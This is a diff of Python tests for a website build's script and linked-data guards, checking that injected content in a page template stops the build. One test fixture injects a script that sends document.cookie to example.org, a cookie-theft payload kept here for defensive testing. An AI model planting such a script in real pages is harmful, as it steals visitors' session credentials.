@@ -18,6 +18,7 @@ from playwright.sync_api import Browser
 from macros.publish.swap import MARK
 from macros.website.adapter.content_policy import inline_scripts, script_hash
 from tests.built.kinds import PAGES, ROOTS
+from tests.edits import edit
 
 POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
 EXPECTED = {
@@ -79,11 +80,11 @@ def test_the_browser_refuses_what_the_policy_does_not_name(address: str, browser
 
 
 def test_injected_linked_data_stops_the_build(project_copy: Path, build):
-    with (project_copy / "docs" / "en" / "about.md").open("a") as file:
-        file.write('\n<script type="application/ld+json">{"@type": "GovernmentOrganization"}</script>\n')
+    block = '<script type="application/ld+json">{"@type": "GovernmentOrganization"}</script>'
+    edit(project_copy / "docs" / "overrides" / "main.html", "{{ foot }}", f"{{{{ foot }}}}{block}")
     result = build(project_copy)
     assert result.returncode == 1
-    assert "en/about/index.html: dữ liệu liên kết lạ trong trang" in result.stderr
+    assert "about/index.html: dữ liệu liên kết lạ trong trang" in result.stderr
 
 
 def test_an_injected_script_stops_the_build_and_the_old_site_stays(project_copy: Path, build):
@@ -91,13 +92,13 @@ def test_an_injected_script_stops_the_build_and_the_old_site_stays(project_copy:
     (old / MARK).parent.mkdir(parents=True)
     (old / MARK).touch()
     (old / "index.html").write_text("old")
-    with (project_copy / "docs" / "en" / "about.md").open("a") as file:
-        file.write("\n<script>fetch('https://example.org/?' + document.cookie)</script>\n")
+    script = "<script>fetch('https://example.org/?' + document.cookie)</script>"
+    edit(project_copy / "docs" / "overrides" / "main.html", "{{ foot }}", f"{{{{ foot }}}}{script}")
 
     result = build(project_copy)
 
     assert result.returncode == 1
-    assert "en/about/index.html: mã lạ trong trang" in result.stderr
+    assert "about/index.html: mã lạ trong trang" in result.stderr
     assert (old / "index.html").read_text() == "old"
 
 
